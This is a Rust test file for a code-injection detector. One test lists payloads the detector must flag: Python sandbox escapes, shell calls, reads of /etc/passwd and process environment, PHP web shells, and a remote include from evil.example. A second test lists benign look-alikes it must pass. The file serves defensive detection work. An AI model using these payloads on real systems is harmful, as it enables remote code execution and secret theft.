use super::*;
use crate::inject::sample;

#[test]
fn code_that_reaches_the_machine() {
    for text in [
        "().__class__.__bases__[0].__subclasses__()",
        "{user.__init__.__globals__[SECRET]}",
        "import subprocess; subprocess.check_output('id')",
        "importlib.import_module('os').system('id')",
        "getattr(__builtins__,'eval')('1')",
        "open('/proc/self/environ').read()",
        "';require('fs').readFileSync('/etc/passwd');//",
        "');process.exit();//",
        "new Function('return process.env')()",
        "process.binding('spawn_sync')",
        "(function(){return process.env})()",
        "while(true){}",
        "x=>{while(1);}",
        "<?php phpinfo(); ?>",
        "\".system('id').\"",
        "assert('system(\"id\")')",
        "call_user_func('system','id')",
        "$_GET[0]($_GET[1])",
        "include('http://evil.example/x.txt');",
        "%x(id)",
        "require 'open3'; Open3.capture2('id')",
        "send(:system,'id')",
        "Object.const_get(:Kernel).system('id')",
        "System.getProperty('user.home');Runtime.getRuntime().exec('id')",
        "Deno.readTextFile('/etc/passwd')",
        "Bun.spawn(['id'])",
        "assert($_POST[1])",
        "a\n<?php system($_GET['c']); ?>",
        "import os\nos.system('id')",
        "import os\nprint(os.popen('id').read())",
        "import subprocess\nsubprocess.run(['id'])\n",
        "x = 1\nexec('import os')",
        "from os import system\r\nsystem('id')",
        "exec.Command(\"sh\",\"-c\",\"id\").Run()",
    ] {
        assert!(sample(detect, text), "{text}");
    }
}

#[test]
fn code_that_computes_and_talk_about_code() {
    for text in [
        "How do I call os.system('ls') on Windows?",
        "system('clear') does nothing on my machine",
        "const { exec } = require('child_process');",
        "const fs = require('fs');",
        "require('./config.json')",
        "self.__class__.__name__",
        "super().__init__(name)",
        "print(open('notes.txt').read())",
        "while (true) { poll(); }",
        "(function(){ return 42; })()",
        "console.log(process.env.PORT)",
        "if (err) process.exit(1)",
        "process.exit();",
        "prefix = subprocess.check_output(['brew', '--prefix'])",
        "console.log('done');process.exit(0)",
        "I put <?php phpinfo(); ?> there and see nothing",
        "assert('name' in data)",
        "array_map('trim', $lines)",
        "send(:ok)",
        "window.open('https://example.com/')",
        "file_get_contents('php://input')",
        "100%x(2)",
        "Bun.spawn is faster than child_process",
        "await Deno.readTextFile('notes.txt')",
        "assert($_POST['a'] === 1)",
        "'+1 from me'",
        "import os\nimport sys",
        "import os\n# list the folder\nos.system('ls')",
        "import os\ndef f():\n  os.system('ls')",
        "import os\nos.system('ls')\nfails on Windows, why?",
        "I tried:\nimport os\nos.system('ls') doesn't work",
        "const fs = require('fs');\nconst x = fs.readFileSync('a.json');",
        "\"quoted\"; process. Then ship",
    ] {
        assert!(!sample(detect, text), "{text}");
    }
}
